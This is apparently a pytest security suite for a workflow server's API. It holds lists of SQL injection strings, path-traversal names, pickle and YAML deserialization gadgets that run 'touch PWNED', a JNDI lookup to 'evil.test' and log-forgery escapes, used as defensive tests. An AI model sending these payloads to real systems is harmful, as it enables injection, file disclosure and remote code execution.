"""What is sent is data: no query, no path, no code, and nothing of another execution."""

import ast
import base64
import itertools
import json
import os
import secrets
import sys
import threading
import urllib.parse
from pathlib import Path

import pytest

import flux
from flux import ExecutionContext, task, workflow
from server.security.hostile import connected, listening, raw, read_all

PACKAGE = Path(flux.__file__).parent

# -- queries

SQL = [
    "'",
    '"',
    "' OR 1=1 --",
    '" OR ""="',
    "1; DROP TABLE executions; --",
    "') OR ('1'='1",
    "x' UNION SELECT 1,2 --",
    "%",
    "_",
    "*",
    "?",
    ":limit",
    "$.a",
    "[0]",
    "\\",
    "`",
    ";",
    "--",
    "/*",
    "NULL",
    "0x41",
    "\x00",
    "a\x00b",
    "\ufffd",
    "😀",
    "%27",
    '{"a":1}',
    "$[*]",
    "json_each(1)",
    "1e309",
    "9" * 400,
    "-1",
    "x" * 5000,
    "\r\n",
    "\u2028",
    "é",
    "true",
    "COMPLETED' --",
]
KEYS = ["workflow", "state", "blocked", "id_prefix", "attribute", "created_from", "created_to", "cursor", "limit"]
OTHERS = [
    "sort",
    "order",
    "order_by",
    "fields",
    "offset",
    "where",
    "namespace",
    "worker",
    "q",
    "input",
    "state;--",
    "a'b",
]


def query(**values: str) -> str:
    return urllib.parse.urlencode(values, encoding="utf-8", errors="replace")


def ids(answer) -> list[str]:
    return [each["execution_id"] for each in answer.json["executions"]]


@pytest.mark.slow
def test_what_is_sql_elsewhere_is_a_text_in_every_filter(harmed):
    for n in range(3):
        harmed.start(f"mine-{n}")
    for key, text in itertools.product(KEYS, [*SQL, *(f"name={each}" for each in SQL), *(f"{each}=x" for each in SQL)]):
        answer = harmed.ask("GET", f"/api/executions?{query(**{key: text})}")

        assert answer.status in {200, 422}, (key, text)
        if answer.status == 200 and key in {"workflow", "id_prefix", "attribute", "state"}:
            assert ids(answer) == [], (key, text)
    assert ids(harmed.ask("GET", "/api/executions")) == ["mine-2", "mine-1", "mine-0"]


@pytest.mark.slow
def test_what_no_filter_is_changes_nothing(harmed):
    harmed.start("a")
    harmed.start("b")
    for key, text in itertools.product(OTHERS, SQL):
        answer = harmed.ask("GET", f"/api/executions?{query(**{key: text})}")

        assert answer.status == 422 or (answer.status == 200 and set(ids(answer)) <= {"a", "b"}), (key, text)


def test_a_cursor_that_was_made_up_gives_no_more_than_there_is(harmed):
    for n in range(3):
        harmed.start(f"mine-{n}")
    numbers = ["0", "-1", "9" * 20, "1e3", "0x1", "1_0", " 1 ", "٣", "NaN", "", "\0", "1" * 5000]
    for text in [*numbers, "1 OR 1=1", "1;", "1 UNION SELECT 1"]:
        cursor = base64.urlsafe_b64encode(text.encode()).decode()
        answer = harmed.ask("GET", f"/api/executions?{query(cursor=cursor)}")

        assert answer.status in {200, 422}, text
        assert answer.status == 422 or len(ids(answer)) <= 3


def test_attributes_are_names_and_values_whatever_they_hold(harmed):
    for n, text in enumerate(each for each in SQL if 0 < len(each) <= 256):
        body = {"execution_id": f"mine-{n}", "attributes": {text: text}}
        assert harmed.ask("POST", "/api/workflows/twofold/executions", data=body).status in {202, 422}
        found = ids(harmed.ask("GET", f"/api/executions?{query(attribute=f'{text}={text}')}"))

        assert found in ([f"mine-{n}"], []), text


def test_the_control_a_filter_that_is_put_into_the_query_is_found(harmed, monkeypatch):
    from flux.store import catalogue

    harmed.start("mine")

    def searched(self, search):
        with self._database.read() as cursor:
            records = cursor.execute(f"SELECT * FROM executions WHERE workflow = '{search.workflow}'").fetchall()
            return [self._row(cursor, record) for record in records]

    monkeypatch.setattr(catalogue.SqliteCatalogue, "search", searched)

    assert harmed.ask("GET", f"/api/executions?{query(workflow=chr(39))}").status != 200


# -- ids and names that are paths elsewhere

PATHS = [
    "..",
    "../../x",
    "../" * 20 + "etc/passwd",
    "/etc/passwd",
    "//etc/passwd",
    "C:\\windows\\win.ini",
    "..\\..\\x",
    ".",
    "%2e%2e",
    "%2e%2e%2fx",
    "..%2f..%2fx",
    "..%252f..%252fx",
    "%00",
    "x%00.txt",
    "a" * 300,
    "~",
    "~root",
    "$HOME",
    "x/../../y",
    "file:///etc/passwd",
    "CON",
    "x\n",
    "x\r\ny",
    "-rf",
    "--help",
    "\u202e",
    ".git/config",
    "..;/x",
    "....//x",
    "x\u2215y",
]


class Opened:
    """Every file that this process opens, removes, renames or makes while it is watched."""

    EVENTS = frozenset(
        {"open", "os.remove", "os.rename", "os.mkdir", "os.rmdir", "os.link", "os.symlink", "os.truncate"}
    )

    def __init__(self):
        self.paths, self.is_on = [], False
        sys.addaudithook(self._hook)  # For good: it cannot be taken off.

    def _hook(self, event, arguments):
        if self.is_on and event in self.EVENTS:
            paths = (os.fsdecode(each) for each in arguments[:2] if isinstance(each, str | bytes | Path))
            self.paths += [os.path.abspath(each) for each in paths if each not in {"r", "rb", "w", "a"}]

    def outside(self, folder: Path) -> list[str]:
        code = (str(PACKAGE), sys.prefix, sys.base_prefix, "/dev/", "/proc/", "/usr/share/zoneinfo")
        return [each for each in self.paths if not each.startswith((str(folder), *code)) and not each.endswith(".py")]


opened = Opened()


def tree(folder: Path) -> dict[str, bytes]:
    return {str(path): path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file()}


def test_an_id_that_is_a_path_elsewhere_leads_to_no_file(harmed, tmp_path):
    canary = tmp_path / "canary"
    (canary / "etc").mkdir(parents=True)
    (canary / "etc" / "passwd").write_text("canary")
    harmed.start("mine")
    documented = harmed.open.openapi()["paths"]
    before = tree(canary)
    opened.paths.clear()
    opened.is_on = True
    try:
        statuses = {
            (path, method, hostile): harmed.ask(
                method.upper(),
                _filled(path, hostile),
                data=None if method == "get" else {"input": 1, "execution_id": hostile, "name": hostile, "value": "x"},
            ).status
            for (path, methods), hostile in itertools.product(documented.items(), PATHS)
            for method in methods
            if not path.endswith("stream") and "{" in path
        }
    finally:
        opened.is_on = False

    assert {each for each in statuses.values() if each >= 500} == set()
    assert {key for key, status in statuses.items() if status < 300 and key[1] != "get"} == set()
    assert opened.outside(tmp_path / "state") == []
    assert tree(canary) == before
    assert {path.name for path in tmp_path.iterdir()} == {"state", "canary"}


def _filled(path: str, hostile: str) -> str:
    quoted = urllib.parse.quote(hostile, safe="/%;~$") if "%" in hostile else urllib.parse.quote(hostile, safe="")
    for name in ("execution_id", "name"):
        path = path.replace("{" + name + "}", quoted)
    return path


def test_the_control_a_route_that_opens_what_it_is_told_is_found(harmed, tmp_path, monkeypatch):
    (tmp_path / "outside").write_text("canary")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(type(harmed.app.store), "get", lambda _, given: Path(given).read_text())
    opened.paths.clear()
    opened.is_on = True
    try:
        harmed.ask("GET", "/api/executions/outside")
    finally:
        opened.is_on = False

    assert opened.outside(tmp_path / "state") == [str(tmp_path / "outside")]


def test_an_id_that_a_caller_chooses_is_one_that_can_name_a_file(harmed):
    for hostile in set(PATHS) - {"CON"}:  # A file like any other here.
        body = {"input": None, "execution_id": hostile}
        answer = harmed.ask("POST", "/api/workflows/twofold/executions", data=body)

        assert (answer.status, answer.is_problem()) == (422, True), hostile
    assert ids(harmed.ask("GET", "/api/executions")) == []


# -- ids of others


def test_what_is_sent_to_one_execution_reaches_no_other(harmed):
    for name in ("mine", "mine2", "other"):
        harmed.start(name)
    start = "/api/workflows/twofold/executions"

    for path, data, status in [
        ("/api/executions/mine/resume", {"input": 1, "execution_id": "other"}, 422),
        ("/api/executions/mine/signal", {"name": "n", "execution_id": "other"}, 422),
        ("/api/executions/mine/signal?execution_id=other&id=other", {"name": "n", "client_id": "c"}, 202),
        ("/api/executions/mine/fork", {"seq": 1, "execution_id": "other"}, 409),
        ("/api/executions/mine/fork", {"seq": 1, "execution_id": "../other"}, 422),
        (start, {"input": "else", "execution_id": "other"}, 409),
        (start, {"input": None, "execution_id": "mine", "parent_id": "other"}, 422),
    ]:
        assert harmed.ask("POST", path, data=data).status == status, path
    assert [len(harmed.app.store.inbox(each)) for each in ("mine", "mine2", "other")] == [1, 0, 0]
    again = harmed.ask("POST", "/api/executions/other/signal", data={"name": "n", "client_id": "c"})
    assert again.status == 202
    assert len(harmed.app.store.inbox("other")) == 1
    assert [each["seq"] for each in harmed.ask("GET", "/api/executions/mine/events").json] == [1]
    assert harmed.ask("GET", "/api/executions/mine%2f..%2fother").status == 404
    assert harmed.ask("GET", "/api/executions/min").status == 404


def test_the_control_an_execution_that_is_found_by_its_beginning_is_found_out(harmed, monkeypatch):
    harmed.start("mine")
    get = type(harmed.app.store).get
    monkeypatch.setattr(
        type(harmed.app.store), "get", lambda self, given: get(self, "mine" if "mine".startswith(given) else given)
    )

    assert harmed.ask("GET", "/api/executions/min").status == 200


def test_a_key_means_one_start_of_one_workflow(harmed):
    headers = {"content-type": "application/json", "idempotency-key": "k"}
    first, again, other = (
        harmed.ask("POST", "/api/workflows/twofold/executions", headers=headers, data={"input": value})
        for value in (1, 1, 2)
    )

    assert (first.status, again.status, other.status) == (202, 202, 409)
    assert first.json["execution_id"] == again.json["execution_id"]


# -- no code from data

FORBIDDEN = {
    *("eval", "exec", "compile", "__import__", "import_module", "os.system", "os.popen", "runpy.run_path"),
    *("pickle.loads", "pickle.load", "pickle.Unpickler", "marshal.loads", "marshal.load", "shelve.open", "dill.loads"),
    *("yaml.load", "yaml.unsafe_load", "jsonpickle.decode", "ctypes.CDLL", "spec_from_file_location", "run_module"),
}
LOADERS = {"pickle", "marshal", "dill", "yaml", "importlib", "importlib.util", "shelve", "builtins"}
KNOWN = {
    ("flux.serde.pickled", "pickle.Unpickler"),  # After the signature of a key of the ring was verified.
    ("flux.serde.classes", "import_module"),  # numpy and pandas, by names of our own.
    ("flux.engine.patches", "importlib.import_module"),  # A module of anyio, by its name.
}


def named(node: ast.AST) -> str:
    if isinstance(node, ast.Attribute):
        return f"{named(node.value)}.{node.attr}"
    return node.id if isinstance(node, ast.Name) else ""


def dangers(source: str) -> set[str]:
    """The functions that make code of data, wherever they are named: called, or only handed on."""
    found = set()
    for node in ast.walk(ast.parse(source)):
        name = named(node)
        first, last = name.partition(".")[0], name.rpartition(".")[2]
        if name in FORBIDDEN or (last in FORBIDDEN and first in {"importlib", "builtins"}):
            found.add(name)
        if isinstance(node, ast.ImportFrom) and node.module in LOADERS:
            found |= {alias.name for alias in node.names} & {each.rpartition(".")[2] for each in FORBIDDEN}
    return found


def reachable(*roots: str) -> dict[str, str]:
    """The sources of all modules that these packages lead to, by name."""
    sources, left = {}, [name for root in roots for name in _modules(root)]
    while left:
        name = left.pop()
        path = PACKAGE.parent / Path(*name.split("."))
        file = path.with_suffix(".py") if path.with_suffix(".py").is_file() else path / "__init__.py"
        if name in sources or not file.is_file():
            continue
        sources[name] = file.read_text("utf-8")
        for node in ast.walk(ast.parse(sources[name])):
            if isinstance(node, ast.Import):
                left += [alias.name for alias in node.names if alias.name.startswith("flux")]
            elif isinstance(node, ast.ImportFrom) and (node.module or "").startswith("flux"):
                left += [node.module, *(f"{node.module}.{alias.name}" for alias in node.names)]
    return sources


def _modules(root: str) -> list[str]:
    folder = PACKAGE.parent / Path(*root.split("."))
    files = folder.rglob("*.py") if folder.is_dir() else [folder.with_suffix(".py")]
    names = (".".join(each.relative_to(PACKAGE.parent).with_suffix("").parts) for each in files)
    return [name.removesuffix(".__init__") for name in names]


def test_nothing_that_the_server_leads_to_makes_code_of_data():
    sources = reachable("flux.api", "flux.server", "flux.store", "flux.domain", "flux.serde", "flux.ports")
    found = {(name, danger) for name, source in sources.items() for danger in dangers(source)}

    assert {"flux.api.guard", "flux.store.catalogue", "flux.serde.codec", "flux.engine.calls"} <= set(sources)
    assert found == KNOWN


@pytest.mark.parametrize(
    "source",
    ["import pickle\npickle.loads(x)", "from pickle import loads", "f = eval", "import yaml\nyaml.load(x)", "exec(x)",
     "import importlib\nimportlib.import_module(x)", "from importlib import import_module", "import os\nos.system(x)"],
)  # fmt: skip
def test_the_control_code_of_data_is_found(source):
    assert dangers(source)


GADGETS = [
    {"~object": ["os.system", "touch PWNED"]},
    {"~pickle": "Y29zCnN5c3RlbQooUyd0b3VjaCBQV05FRCcKdFIu"},
    {"~": "subprocess.Popen", "~~": 1},
    {"~error": {"type": "os.system", "args": ["touch PWNED"]}},
    {"~path": "/etc/passwd"},
    {"~enum": ["os:sys", "x"]},
    {"$type": "os.system", "$value": "touch PWNED"},
    {"__reduce__": ["os.system", "touch PWNED"]},
    {"py/object": "subprocess.Popen", "args": ["touch PWNED"]},
    {"py/reduce": [{"py/type": "os.system"}, ["touch PWNED"]]},
    {"$": ["pickle", "gASVIgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAd0b3VjaCBYlIWUUpQu"]},
    "!!python/object/apply:os.system [x]",
    "p1\n(cos\nsystem\nS'touch PWNED'\ntR.",
    {"__class__": "subprocess.Popen"},
    {"$ref": "file:///etc/passwd"},
    "{{7*7}}",
    "${jndi:ldap://evil.test/a}",
    {"__proto__": {"admin": True}},
    {"$f": "exception", "type": "os.system", "args": ["x"]},
]


def test_values_that_are_code_elsewhere_come_back_as_they_were(harmed, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for n, gadget in enumerate(GADGETS):
        assert harmed.start(f"mine-{n}", gadget).json["input"] == gadget
        sent = harmed.ask("POST", f"/api/executions/mine-{n}/signal", data={"name": "n", "value": gadget})

        assert sent.status == 202
    assert {path.name for path in tmp_path.iterdir()} == {"state"}


# -- log lines

FORGERIES = [
    "x\nerror: forged",
    "x\r\nerror: forged",
    "x\x1b[2J\x1b[31mred",
    "x\x1b]0;title\x07",
    "x\u2028error: forged",
    "x\u0085y",
    "x\x00y",
    "%s %d %n",
    "{0.__class__}",
    "%(message)s",
    "x\x9b31m",
    "x\u202egnp.exe",
    "x\x08\x08y",
    "x\x7fy",
    "\ud7ff",
]
OBEYED = [chr(n) for n in (*range(9), *range(11, 32), *range(127, 160), 0x2028, 0x2029, 0x202E)]


def test_what_a_caller_sends_forges_no_line_and_reaches_no_terminal(harmed, capfd, caplog):
    for n, text in enumerate(FORGERIES):
        harmed.start(f"mine-{n}", text)
        for path, data in [
            (f"/api/executions/mine-{n}/signal", {"name": text, "value": text}),
            (f"/api/executions/mine-{n}/resume", {"name": text, "input": text}),
            (f"/api/executions/{urllib.parse.quote(text)}/cancel", {}),
            (f"/api/workflows/{urllib.parse.quote(text)}/executions", {"input": text}),
        ]:
            harmed.ask("POST", path, data=data)
        harmed.ask(
            "GET", f"/api/executions?{query(cursor=text)}", headers={"user-agent": text.encode().decode("latin-1")}
        )
    from flux.cli import output

    out, err = capfd.readouterr()
    for text in FORGERIES:
        output.error(f"there is no {text}: look again")
    lines = capfd.readouterr().err.splitlines()

    assert not any(each in out + err + caplog.text for each in OBEYED)
    assert not [line for line in (out + err + caplog.text).splitlines() if line.startswith("error: forged")]
    assert len(lines) == len(FORGERIES)
    assert not any(each in "\n".join(lines) for each in OBEYED)


def test_the_control_a_line_that_is_written_as_it_came_is_found(capfd, monkeypatch):
    from flux.cli import output

    monkeypatch.setattr(output, "safe", lambda text: text)
    for text in FORGERIES:
        output.error(f"there is no {text}: look again")

    assert any(each in capfd.readouterr().err for each in OBEYED)


# -- secrets


@task.with_options(secret_requests=["CANARY"])
async def leaking(how: str, secrets=None) -> str:
    value = secrets["CANARY"]
    local = {"nested": [value, value.encode()], "url": f"https://user:{value}@host/?{urllib.parse.quote(value)}"}
    print("printed", value, base64.b64encode(value.encode()).decode())
    match how:
        case "result":
            return value
        case "error":
            raise ValueError(f"it was {value}, {value!r}, {json.dumps(local['nested'][0])}, {local['url']}")
        case _:
            raise KeyError(base64.b64encode(value.encode()).decode())


@workflow.with_options(secret_requests=["CANARY"])
async def leaks(ctx: ExecutionContext[str]) -> str:
    return await leaking(ctx.input)


def signs_of(value: str) -> list[str]:
    data = value.encode()
    encoded = [base64.b64encode(b"." * shift + data).decode()[4:20] for shift in range(3)]
    return [value[:12], value[-12:], data.hex()[:24], *encoded]


def test_a_secret_is_in_no_answer_no_stream_and_no_log(harmed, caplog):
    canary = f"{secrets.token_hex(8)}/\"'\\ &%ü{secrets.token_hex(8)}"
    said = [harmed.ask("PUT", "/api/secrets/CANARY", data={"value": canary})]
    assert said[0].status == 204
    said += [
        harmed.ask("PUT", "/api/secrets/CANARY", data={"value": [canary]}),
        harmed.ask("PUT", "/api/secrets/CANARY", data={"value": canary, "more": canary}),
        harmed.ask("PUT", "/api/secrets/CANARY", body=json.dumps({"value": canary}).encode()[:-1]),
        harmed.ask("PUT", f"/api/secrets/{'x' * 300}", data={"value": canary}),
        harmed.ask("PUT", "/api/secrets/CANARY", data={"value": canary * 5000}),
    ]
    assert {each.status for each in said[1:]} == {400, 422}
    for how in ("result", "error", "encoded"):
        assert harmed.app.run(leaks.definition, how, f"leak-{how}").has_failed
    control = harmed.app.control([leaks.definition])
    application = harmed.application(is_open=True, control=control)
    refused = harmed.ask("POST", "/api/workflows/leaks/executions", on=application, data={"input": canary})
    assert refused.status == 422
    said.append(refused)
    paths = ["/api/secrets", "/api/executions", "/api/workflows", "/api/openapi.json", "/api/workers", "/metrics"]
    for how, rest in itertools.product(("result", "error", "encoded"), ("", "/events", "/output", "/lines")):
        paths.append(f"/api/executions/leak-{how}{rest}")
    said += [harmed.ask("GET", path, on=application) for path in paths]
    with listening(application) as port:
        for how in ("result", "error", "encoded"):
            with connected(port, raw("GET", f"/api/executions/leak-{how}/stream", "Connection: close")) as client:
                said.append(type(said[0])(200, [], read_all(client)))
    shown = "\n".join([*(each.body.decode() for each in said), *(str(each.headers) for each in said), caplog.text])

    assert "TASK_FAILED" in shown
    assert [sign for sign in signs_of(canary) if sign in shown or json.dumps(sign)[1:-1] in shown] == []


def test_the_control_a_secret_that_nobody_keeps_out_is_found(harmed):
    canary = secrets.token_hex(16)
    answer = harmed.start("mine", canary)

    assert [sign for sign in signs_of(canary) if sign in answer.body.decode()]


def test_secrets_are_listed_by_name_and_forgotten(harmed):
    threads = threading.active_count()
    harmed.ask("PUT", "/api/secrets/KEY", data={"value": "a-long-value"})
    (shown,) = harmed.ask("GET", "/api/secrets").json

    assert {name: shown[name] for name in ("name", "where", "version")} == {
        "name": "KEY",
        "where": "store",
        "version": 1,
    }
    assert harmed.ask("DELETE", "/api/secrets/KEY", headers={"x-flux": "1"}).status == 204
    assert harmed.ask("DELETE", "/api/secrets/KEY", headers={"x-flux": "1"}).status == 404
    assert harmed.ask("GET", "/api/secrets").json == []
    assert threading.active_count() < threads + 50
